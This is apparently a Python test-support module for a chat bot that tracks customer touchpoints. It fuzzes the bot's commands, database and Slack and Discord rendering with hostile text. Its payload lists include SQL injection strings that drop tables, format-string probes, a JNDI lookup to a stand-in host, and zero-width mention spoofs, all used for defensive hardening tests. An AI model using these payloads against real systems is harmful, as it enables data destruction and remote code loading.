"""What the hardening tests share: hostile text, a counter of the cases tried, a database
world driven through the real commands, row counts, and rendering on every platform."""

from __future__ import annotations

import asyncio
import os
import threading
from collections.abc import Awaitable, Callable, Coroutine, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any, TypeVar

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from sqlalchemy import Engine, func, select, text
from tally import tried as tried  # the tests count their cases through here

from bot.adapters import console
from bot.adapters.discord import render as discord_render
from bot.adapters.slack import render as slack_render
from bot.bootstrap import Container, build
from bot.config import load_settings
from bot.core.clock import ManualClock
from bot.core.commands import Context, OpenForm, Outcome
from bot.core.replies import Reply
from bot.core.services import SIGNED_REQUEST_KEY
from bot.storage.orm import Base

T = TypeVar("T")

# Thu 19 Nov 2026, 10:00 UTC, as in the adapter rigs.
NOW = datetime(2026, 11, 19, 10, 0, tzinfo=UTC)


def database_of(db_url: str) -> str:
    return "postgresql" if db_url.startswith("postgresql") else "sqlite"


def scaled(db_url: str, examples: int) -> int:
    """Examples for a database test: PostgreSQL round trips cost more than SQLite's, so it
    gets half."""
    return examples if database_of(db_url) == "sqlite" else max(1, examples // 2)


def profile(examples: int) -> settings:
    """Deterministic (the same examples every run, no example database) and unhurried;
    ``HARDENING_SCALE`` multiplies the examples (the opt-in heavy run sets it to 10)."""
    factor = float(os.environ.get("HARDENING_SCALE", "1"))
    return settings(
        max_examples=max(1, int(examples * factor)),
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.filter_too_much,
        ],
    )


# -- hostile text -----------------------------------------------------------------------------

MENTIONS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "@channel",
    "@here",
    "@everyone",
    "<@U999>",
    "<@999999999999999999>",
    "<@!999999999999999999>",
    "<@&123>",
    "<#C1>",
    "<!subteam^S1|@team>",
    "<t:0:R>",
    "<https://evil.example|x>",
    "<mailto:x@evil.example|x>",
    "[x](https://evil.example)",
    "[x](<https://evil.example>)",
    "<\u200b!channel>",
    "<!\u200dhere>",
    "@\u200beveryone",
    "@\u200deveryone",
    "\u200b<@U999>",
    "[x]\u200b(https://evil.example)",
    "&lt;!channel&gt;",
    "\\<@U999>",
)
INJECTIONS = (
    "'; DROP TABLE customers; --",
    "Robert'); DROP TABLE touchpoints;--",
    '" OR 1=1 --',
    "{0.__class__}",
    "{detail}",
    "{",
    "}",
    "%s%n",
    "%(name)s",
    "%",
    "${jndi:ldap://evil.example/a}",
    "\\",
    "\\x00",
)
UNICODE = (
    "\x00",
    "\x07",
    "\x1b[31m",
    "\r\n",
    "\r",
    "\t",
    "\x0b",
    "\x85",
    "\u2028",
    "\u2029",
    "\ud800",
    "\udfff",
    "\u202e",  # right-to-left override
    "\u200f",
    "\u200b",
    "\u200d",
    "\ufeff",
    "e\u0301",  # a combining accent
    "Z\u0335\u0321\u0330\u0353\u0316\u0347",  # "zalgo": a pile of combining marks
    "\u0301",
    "مرحبا",
    "שלום",
    "𝟏𝟐",
    "²",
    "١٢",
    "😀",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "\U0010ffff",
)
GRAMMAR = (
    "acme",
    "+acme",
    "Acme Corp",
    "acme corp video call",
    " | ",
    "|",
    ";",
    ":",
    "\n",
    "ch: ",
    "we: ",
    "they: ",
    "diff: ",
    "code: ",
    "notes: ",
    "kind: ",
    "csat: ",
    "ces: ",
    "stage: ",
    "wibble: ",
    " by 31 Feb",
    " in 10000 years",
    " by yesterday",
    " at 25:99",
    " by fri",
    " tomorrow 10am",
    " 3 Dec",
    "no answer",
    "x" * 300,
    "y" * 301,
    " ",
    "",
)
FRAGMENTS = st.sampled_from((*MENTIONS, *INJECTIONS, *UNICODE, *GRAMMAR))
ANY_CHARS = st.text(st.characters(exclude_categories=()), max_size=12)


def hostile_text(max_pieces: int = 12) -> st.SearchStrategy[str]:
    """Text assembled from pieces that have broken parsers, renderers and databases."""
    return st.lists(FRAGMENTS | ANY_CHARS, max_size=max_pieces).map("".join)


# -- a database world driven through the real commands --------------------------------------


@dataclass
class World:
    container: Container
    clock: ManualClock

    @property
    def engine(self) -> Engine:
        return self.container.engine

    def handle(self, text: str, ctx: Context) -> Outcome:
        return self.container.commands.handle(text, ctx)

    def counts(self) -> dict[str, int]:
        """Rows in every table. The replay key every signed Slack request leaves (see
        ``services.first_signed_request``) is about the request, not the data: not counted."""
        with self.engine.connect() as connection:
            counted = {}
            for name, table in Base.metadata.tables.items():
                query = select(func.count()).select_from(table)
                if name == "processed_events":
                    query = query.where(~table.c.key.startswith(SIGNED_REQUEST_KEY))
                counted[name] = int(connection.scalar(query) or 0)
            return counted

    def team_rows(self, team_id: str) -> list[tuple[Any, ...]]:
        """Everything stored about a team's records, to compare before and after."""
        queries = (
            "SELECT * FROM teams WHERE id = :t",
            "SELECT * FROM customers WHERE team_id = :t ORDER BY id",
            "SELECT * FROM customer_aliases WHERE team_id = :t ORDER BY id",
            "SELECT * FROM touchpoints WHERE team_id = :t ORDER BY id",
            "SELECT * FROM challenges WHERE team_id = :t ORDER BY id",
            "SELECT * FROM promises WHERE team_id = :t ORDER BY id",
            "SELECT e.* FROM challenge_events e JOIN challenges c ON c.id = e.challenge_id"
            " WHERE c.team_id = :t ORDER BY e.id",
            "SELECT e.* FROM promise_events e JOIN promises p ON p.id = e.promise_id"
            " WHERE p.team_id = :t ORDER BY e.id",
            "SELECT * FROM deliveries WHERE team_id = :t ORDER BY id",
            "SELECT * FROM calendar_feeds WHERE team_id = :t ORDER BY id",
        )
        rows: list[tuple[Any, ...]] = []
        with self.engine.connect() as connection:
            for query in queries:
                rows += [tuple(r) for r in connection.execute(text(query), {"t": team_id})]
        return rows

    def ids(self, table: str) -> list[int]:
        """Every id in ``table``, whichever team it belongs to."""
        with self.engine.connect() as connection:
            return [int(i) for i in connection.scalars(text(f"SELECT id FROM {table} ORDER BY id"))]


@contextmanager
def sql_world(db_url: str, *, public_url: str = "https://touchpoint.example") -> Iterator[World]:
    """The composition root on ``db_url`` with a manual clock."""
    env = {
        "DATABASE_URL": db_url,
        "TOUCHPOINT_TIMEZONE": "Europe/London",
        "TOUCHPOINT_PUBLIC_URL": public_url,
    }
    clock = ManualClock(NOW)
    container = build(load_settings(env, dotenv=None), clock=clock)
    try:
        yield World(container, clock)
    finally:
        container.close()


# -- outcomes --------------------------------------------------------------------------------

BUG_WORDS = ("Something went wrong", "error id")


def rendered_everywhere(reply: Reply) -> str:
    """The reply as every platform shows it (rendering must not fail either)."""
    parts = [console.render(reply, "Europe/London")]
    for message in slack_render.to_messages(reply):
        parts += [message.text, repr(message.blocks)]
    for rendered in discord_render.render(reply):
        parts.append(rendered.content)
        parts += [repr(embed.to_dict()) for embed in rendered.embeds]
    return "\n".join(parts)


def reply_text(reply: Reply) -> str:
    """The words of a reply, unrendered."""
    words = [reply.title]
    for section in reply.sections:
        words.append(section.heading or "")
        for item in section.lines:
            words += [getattr(span, "text", "") for span in item.spans]
    return "\n".join(words)


def check_outcome(outcome: object) -> str:
    """A reply or a form, never anything else; a reply renders on every platform and an
    error says what was wrong (not "something went wrong"). Returns the reply's kind."""
    if isinstance(outcome, OpenForm):
        return "form"
    assert isinstance(outcome, Reply), f"not a reply: {outcome!r}"
    rendered_everywhere(outcome)
    if outcome.kind == "error":
        said = reply_text(outcome)
        assert outcome.sections and said.strip(), "an error says what was wrong"
        assert not any(word in said for word in BUG_WORDS), said[:300]
    return outcome.kind


# -- a long-lived event loop for property tests against async rigs ------------------------------


class LoopThread:
    """An event loop in a thread of its own, so a synchronous hypothesis test can drive an
    async rig (the fake platform and the real adapter) across many examples."""

    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self._thread.start()

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 30.0) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def call(self, make: Callable[[], Awaitable[T]], timeout: float = 30.0) -> T:
        async def wrapped() -> T:
            return await make()

        return self.run(wrapped(), timeout)

    def close(self) -> None:
        async def cancel_the_rest() -> None:  # e.g. discord.py's view timeouts
            tasks = [t for t in asyncio.all_tasks() if t is not asyncio.current_task()]
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

        self.run(cancel_the_rest())
        self.loop.call_soon_threadsafe(self.loop.stop)
        self._thread.join(10)
        self.loop.close()
